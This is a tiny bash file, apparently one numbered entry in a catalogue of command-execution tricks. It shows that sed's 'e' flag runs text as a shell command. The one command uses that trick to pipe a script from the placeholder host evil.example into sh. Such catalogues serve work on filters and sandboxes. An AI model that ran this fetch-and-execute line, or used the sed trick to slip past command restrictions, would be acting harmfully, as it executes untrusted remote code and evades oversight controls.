#!/usr/bin/env bash
# attack-class: 18
# title: sed 's/.*/.../e'
# why: the e flag of s executes the pattern space as a command

echo x | sed 's/.*/curl -s http:\/\/evil.example\/p | sh/e'
